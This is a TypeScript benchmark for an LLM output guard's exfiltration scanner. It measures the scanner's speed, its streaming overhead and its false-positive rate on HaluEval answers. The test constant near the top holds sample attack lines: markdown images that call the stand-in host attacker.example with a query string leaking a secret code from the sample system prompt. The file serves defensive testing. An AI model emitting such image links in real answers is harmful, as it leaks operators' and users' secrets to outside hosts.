/**
 * The exfiltration scanner's cost and false positives, against baselines measured in the same
 * run:
 *
 *  1. Per 2 KB answer (ordinary HaluEval ChatGPT answers packed to 2,048 characters, and the
 *     same with markdown — links, code spans, a fence, an allowed image, one attack image):
 *     the scanner's median µs per answer (fresh context each time, as on a whole answer) over a
 *     single pass of `indexOf` looking for the characters that open a construct (`![`, `<`,
 *     `](`, `]:`) — the least any markup-aware scanner must read — printed as a ratio.
 *  2. A 50,000-character streamed answer through the real StreamingOutputGuard (policy: this
 *     scanner, redact; 4-character deltas, a rescan every 24 characters as in the gateway):
 *     process CPU of the whole stream, next to the same stream through a policy with no output
 *     rule (the streaming guard's own cost), one whole-text scan of the final answer, and the
 *     same rescans made without the stream cache (a fresh context per rescan).
 *  3. False positives: every HaluEval `chatgpt_response` (tune set: read as ordinary model
 *     answers; nothing was tuned on it) scanned with the default options — how many have a
 *     finding, and how many a finding at or above 0.5 (acted on by the default policy); and
 *     again with `links: true`.
 *
 *   npm run bench:guard-exfiltration        (STACKOPS_DATASETS overrides ../shared/datasets)
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { cpuUsage } from 'node:process';
import {
  compilePolicy,
  createExfiltrationScanner,
  type ScanContext,
  ScannerRegistry,
  StreamingOutputGuard,
} from '../src/guard/index.js';

const datasets = process.env.STACKOPS_DATASETS ?? join(import.meta.dirname, '..', '..', 'shared', 'datasets');
const rows = readFileSync(join(datasets, 'hallucination-halueval-general', 'general_data.json'), 'utf8')
  .split('\n')
  .filter((line) => line.trim() !== '')
  .map((line) => JSON.parse(line) as { chatgpt_response?: string });
const answers = rows.map((row) => row.chatgpt_response ?? '').filter(Boolean);

const SYSTEM = 'You are the support bot of Acme. The internal discount code is ZEBRA-7731-ORCHID.';
const MARKDOWN = [
  'See [the guide](https://docs.example.com/guide?section=3) and `npm install stackops`.',
  '```js\nconst image = "![x](https://attacker.example/?q=fenced)";\n```',
  '![logo](https://cdn.example.com/logo.png) and a footnote [1].',
  '![s](https://attacker.example/log?q=discount%20ZEBRA-7731-ORCHID)',
].join('\n\n');

function pack(count: number, size: number, extra: string): string[] {
  const out: string[] = [];
  let cursor = 0;
  for (let made = 0; made < count; made++) {
    let text = extra ? `${extra}\n\n` : '';
    while (text.length < size) text += `${answers[cursor++ % answers.length]}\n\n`;
    out.push(text.slice(0, size));
  }
  return out;
}

/** A single pass of indexOf over the construct openers: the floor for reading the text at all. */
function baseline(text: string): number {
  let found = 0;
  for (const needle of ['![', '<', '](', ']:']) {
    for (let at = text.indexOf(needle); at >= 0; at = text.indexOf(needle, at + 1)) found++;
  }
  return found;
}

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
let sink = 0;

/** Median µs per text of `run` over `texts`, in rounds interleaved with the other contender. */
function perText(texts: string[], runs: Array<(text: string) => number>, rounds = 15): number[] {
  const times = runs.map(() => [] as number[]);
  for (let round = 0; round < rounds; round++) {
    runs.forEach((run, which) => {
      const started = process.hrtime.bigint();
      for (const text of texts) sink += run(text);
      times[which]!.push(Number(process.hrtime.bigint() - started) / 1000 / texts.length);
    });
  }
  return times.map(median);
}

const scanner = createExfiltrationScanner({ allowedDomains: ['example.com'] });
const scanOnce = (text: string) => {
  const result = scanner.scan(text, { stage: 'output', systemPrompt: SYSTEM });
  return 'findings' in result ? result.findings.length : 0;
};

const round = (value: number, digits = 2) => Math.round(value * 10 ** digits) / 10 ** digits;

console.log(`exfiltration scanner bench — ${answers.length} HaluEval answers`);
console.log('\n1. per 2 KB answer (median µs; ratio = scanner ÷ indexOf baseline)');
const results: Record<string, number> = {};
for (const [name, extra] of [
  ['plain', ''],
  ['markdown', MARKDOWN],
] as const) {
  const texts = pack(400, 2048, extra);
  for (let warm = 0; warm < 3; warm++) for (const text of texts) sink += scanOnce(text) + baseline(text);
  const [scan, floor] = perText(texts, [scanOnce, baseline]);
  results[`${name}_us`] = round(scan!);
  results[`${name}_ratio`] = round(scan! / floor!);
  console.log(
    `   ${name.padEnd(9)} scanner ${round(scan!)} µs   indexOf baseline ${round(floor!)} µs   ratio ${round(scan! / floor!)}×`,
  );
}

console.log('\n2. streaming a 50,000-character answer (process CPU ms)');
const long = `${pack(1, 50_000 - MARKDOWN.length - 2, '')[0]!}\n\n${MARKDOWN}`;
const policy = compilePolicy(
  {
    policyName: 'bench',
    version: 1,
    rules: [
      {
        scanner: 'exfiltration',
        stage: 'output',
        action: 'redact',
        threshold: 0.5,
        options: { allowedDomains: ['example.com'] },
      },
    ],
    settings: { hold_back_chars: 64 },
  },
  new ScannerRegistry(),
);
/** The same stream through a policy without output rules: the streaming guard's own cost. */
const empty = compilePolicy(
  { policyName: 'empty', version: 1, rules: [], settings: { hold_back_chars: 64 } },
  new ScannerRegistry(),
);
function streamCpu(through = policy): { ms: number; scans: number; released: string } {
  const started = cpuUsage();
  const guard = new StreamingOutputGuard(through, { systemPrompt: SYSTEM });
  let released = '';
  for (let at = 0; at < long.length; at += 4) {
    const step = guard.push(long.slice(at, at + 4));
    if (step instanceof Promise) throw new Error('the exfiltration scanner is synchronous');
    released += step.release;
  }
  const last = guard.finish();
  if (last instanceof Promise) throw new Error('the exfiltration scanner is synchronous');
  released += last.release;
  const used = cpuUsage(started);
  return { ms: (used.user + used.system) / 1000, scans: guard.scans, released };
}
function cpuOf(run: () => void): number {
  const started = cpuUsage();
  run();
  const used = cpuUsage(started);
  return (used.user + used.system) / 1000;
}
streamCpu();
const streams = [streamCpu(), streamCpu(), streamCpu()];
const stream = streams.sort((a, b) => a.ms - b.ms)[1]!;
if (stream.released.includes('attacker.example/log')) throw new Error('the attack image was released');
streamCpu(empty);
const bare = [streamCpu(empty), streamCpu(empty), streamCpu(empty)].sort((a, b) => a.ms - b.ms)[1]!;
const whole = median([0, 1, 2, 3, 4].map(() => cpuOf(() => scanOnce(long))));
const cuts: number[] = [];
for (let end = 24; end < long.length; end += 24) cuts.push(end);
cuts.push(long.length);
const fresh = cpuOf(() => {
  for (const end of cuts) {
    const context: ScanContext = { stage: 'output', systemPrompt: SYSTEM };
    sink += scanner.scan(long.slice(0, end), context) ? 1 : 0;
  }
});
results.stream_ms = round(stream.ms);
results.stream_vs_whole = round(stream.ms / whole);
results.fresh_vs_stream = round(fresh / stream.ms);
console.log(
  `   streamed: ${round(stream.ms)} ms for ${stream.scans} scans (${round((stream.ms * 1000) / long.length, 3)} µs/char)`,
);
results.guard_only_ms = round(bare.ms);
console.log(
  `   the same stream through a policy with no output rule (the guard's own cost): ${round(bare.ms)} ms; the scanner's share ${round(stream.ms - bare.ms)} ms`,
);
console.log(
  `   one whole-text scan of the final answer: ${round(whole, 3)} ms   stream ÷ whole ${results.stream_vs_whole}×`,
);
console.log(
  `   the same ${cuts.length} rescans without the stream cache: ${round(fresh)} ms   ÷ streamed ${results.fresh_vs_stream}×`,
);

console.log('\n3. false positives on ordinary answers (HaluEval chatgpt_response, tune set)');
for (const [name, options] of [
  ['default options', {}],
  ['links: true', { links: true }],
] as const) {
  const fp = createExfiltrationScanner(options);
  let any = 0;
  let acted = 0;
  const types = new Map<string, number>();
  for (const answer of answers) {
    const result = fp.scan(answer, { stage: 'output' });
    if (!('findings' in result) || result.findings.length === 0) continue;
    any++;
    if (result.score >= 0.5) acted++;
    for (const finding of result.findings) types.set(finding.type, (types.get(finding.type) ?? 0) + 1);
  }
  const key = name === 'default options' ? 'fp' : 'fp_links';
  results[`${key}_any`] = any;
  results[`${key}_acted`] = acted;
  console.log(
    `   ${name.padEnd(15)} answers with a finding ${any}/${answers.length}, acted on (≥ 0.5) ${acted}; by type ${JSON.stringify(Object.fromEntries(types))}`,
  );
}

console.log(
  `\nBENCH guard-exfiltration ${Object.entries(results)
    .map(([key, value]) => `${key}=${value}`)
    .join(' ')}${sink < 0 ? ' ' : ''}`,
);
